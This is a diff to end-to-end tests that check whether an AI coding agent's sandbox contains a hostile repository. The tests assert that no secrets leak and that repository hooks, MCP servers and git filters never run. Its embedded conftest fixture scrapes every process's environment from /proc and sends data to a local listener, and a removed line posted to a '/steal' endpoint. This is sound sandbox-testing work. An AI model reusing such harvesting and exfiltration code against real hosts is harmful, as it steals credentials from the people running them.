@@ -28,14 +28,18 @@ from pathlib import Path
 import pytest
 
 from tests.e2e import offline
-from tests.e2e.conftest import linear_ticket_run, step_failures
-from tests.e2e.test_fallback_and_safety import every_output
-from tests.e2e.test_hostile_ticket import ABSTRACT_NAME, listeners, worker_secrets, world_ports
+from tests.e2e.test_hostile_ticket import (
+    ABSTRACT_NAME,
+    HostileWorld,
+    TicketOutcome,
+    hostile_world,
+    ticket_outcome,
+    worker_secrets,
+)
 from veranda_dagster.sandbox.policy import SANDBOX_UID
 from veranda_dagster.sim.sample_org import (
     BILLING,
     SAMPLE_TICKET_BODY,
-    SAMPLE_TICKET_TITLE,
     developer_git,
 )
 from veranda_dagster.sim.world import SimWorld
@@ -62,7 +66,8 @@ except OSError:
 """
 
 CONFTEST = """\
-import glob, os, socket, subprocess, urllib.request
+# ruff: noqa
+import glob, os, socket, subprocess
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 ROOT = os.path.dirname(HERE)
@@ -74,20 +79,25 @@ for path in glob.glob("/proc/[0-9]*/environ"):
         lines.append(open(path, "rb").read().decode("utf-8", "replace"))
     except OSError:
         pass
+WHO = ("cwd=%s" % os.getcwd()).encode()
 for port in {ports!r}:
     try:
-        socket.create_connection(("127.0.0.1", port), timeout=1).close()
+        c = socket.create_connection(("127.0.0.1", port), timeout=1)
+        c.sendall(WHO)
+        c.close()
         lines.append("OPEN %d" % port)
     except OSError:
         lines.append("closed %d" % port)
 try:
     a = socket.socket(socket.AF_UNIX)
     a.connect(chr(0) + "{abstract}")
+    a.sendall(WHO)
     lines.append("ABSTRACT-CONNECTED")
 except OSError:
     lines.append("abstract-refused")
 try:
-    urllib.request.urlopen("http://127.0.0.1:{port}/steal", data=b"x", timeout=2)
+    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
+    s.sendall(WHO)
     lines.append("SENT")
 except OSError:
     lines.append("send-failed")
@@ -150,8 +160,22 @@ def push_to_main(world: SimWorld, files: dict[str, str], scratch: Path) -> None:
     developer_git("push", "--quiet", "origin", "main", cwd=work)
 
 
-def _probe_dir(world: SimWorld, key: str) -> Path:
-    return Path(world.env["VERANDA_WORKSPACES"]) / key / PROBE_DIR
+def from_the_product(world: SimWorld, seen: list[str]) -> list[str]:
+    """The listener's connections that came from the product's side: all but those of the
+    simulated forge's own CI, which runs the repository's tests in its own checkout with the
+    network, as GitHub Actions would on another machine (each says its working folder)."""
+    workspaces = world.env["VERANDA_WORKSPACES"]
+    return [s for s in seen if "cwd=" not in s or workspaces in s]
+
+
+def hostile_repository_ticket(
+    hostile: HostileWorld, scratch: Path, *, nested: bool
+) -> TicketOutcome:
+    """The sample ticket, run on the sample repository after its developer pushed the hostile
+    files."""
+    files = hostile_files(hostile.port, hostile.probed, nested=nested)
+    push_to_main(hostile.world, files, scratch)
+    return ticket_outcome(hostile.world, SAMPLE_TICKET_BODY)
 
 
 def test_a_hostile_repositorys_hooks_mcp_and_tests_reach_nothing_and_the_ticket_lands(
@@ -160,20 +184,12 @@ def test_a_hostile_repositorys_hooks_mcp_and_tests_reach_nothing_and_the_ticket_
     offline.require_cli(AGENT)
     if offline.ran_offline(request):
         return
-    monkeypatch.setenv("VERANDA_SANDBOX", "bwrap")
-    with listeners() as (port, seen), SimWorld(root=tmp_path / "world", agent=AGENT) as world:
-        probed = [*world_ports(world), port]
-        push_to_main(world, hostile_files(port, probed, nested=False), tmp_path)
-        with linear_ticket_run(world, SAMPLE_TICKET_TITLE, SAMPLE_TICKET_BODY) as (
-            key,
-            instance,
-            run_id,
-            ok,
-        ):
-            failures = step_failures(instance, run_id)
-            outputs = every_output(world, instance, key)
-        assert ok, failures
-        probe = _probe_dir(world, key)
+    with hostile_world(tmp_path, monkeypatch) as hostile:
+        world, probed, seen = hostile.world, hostile.probed, hostile.seen
+        outcome = hostile_repository_ticket(hostile, tmp_path, nested=False)
+        assert outcome.ok, outcome.failures
+        outputs = outcome.outputs
+        probe = outcome.clone / PROBE_DIR
         saw = (probe / "conftest-saw.txt").read_text(errors="replace")
         verdicts = set(saw.splitlines())
         secrets = worker_secrets(world)
@@ -185,7 +201,7 @@ def test_a_hostile_repositorys_hooks_mcp_and_tests_reach_nothing_and_the_ticket_
         assert [n for n, v in secrets.items() if v in saw] == []
         # the repository's hooks and MCP server never ran for the product's agent
         assert sorted(p.name for p in probe.glob("ran-*")) == []
-        assert seen == []
+        assert from_the_product(world, seen) == []
         # nothing secret in anything the run produced; the change went out
         assert [n for n, v in secrets.items() if v in outputs] == []
         assert len(world.github.all_pulls()) == 1
@@ -197,22 +213,14 @@ def test_a_nested_repository_with_a_filter_is_refused_and_its_filter_never_runs_
     offline.require_cli(AGENT)
     if offline.ran_offline(request):
         return
-    monkeypatch.setenv("VERANDA_SANDBOX", "bwrap")
-    with listeners() as (port, seen), SimWorld(root=tmp_path / "world", agent=AGENT) as world:
-        probed = [*world_ports(world), port]
-        push_to_main(world, hostile_files(port, probed, nested=True), tmp_path)
-        with linear_ticket_run(world, SAMPLE_TICKET_TITLE, SAMPLE_TICKET_BODY) as (
-            key,
-            instance,
-            run_id,
-            ok,
-        ):
-            failures = step_failures(instance, run_id)
-            outputs = every_output(world, instance, key)
-        assert not ok
-        error = next(iter(failures.values()), "")
-        assert "NestedRepositoryError" in error and "vendored" in error, failures
-        spy = _probe_dir(world, key) / "filter.txt"
+    with hostile_world(tmp_path, monkeypatch) as hostile:
+        world, seen = hostile.world, hostile.seen
+        outcome = hostile_repository_ticket(hostile, tmp_path, nested=True)
+        assert not outcome.ok
+        outputs = outcome.outputs
+        error = next(iter(outcome.failures.values()), "")
+        assert "NestedRepositoryError" in error and "vendored" in error, outcome.failures
+        spy = outcome.clone / PROBE_DIR / "filter.txt"
         ran = spy.read_text(errors="replace") if spy.exists() else ""
         secrets = worker_secrets(world)
         # where the filter ran at all, it ran as the sandbox's user and saw no secret
@@ -220,4 +228,4 @@ def test_a_nested_repository_with_a_filter_is_refused_and_its_filter_never_runs_
         assert uids <= {str(SANDBOX_UID)}, uids
         assert [n for n, v in secrets.items() if v in ran] == []
         assert [n for n, v in secrets.items() if v in outputs] == []
-        assert seen == [] and world.github.all_pulls() == []
+        assert from_the_product(world, seen) == [] and world.github.all_pulls() == []
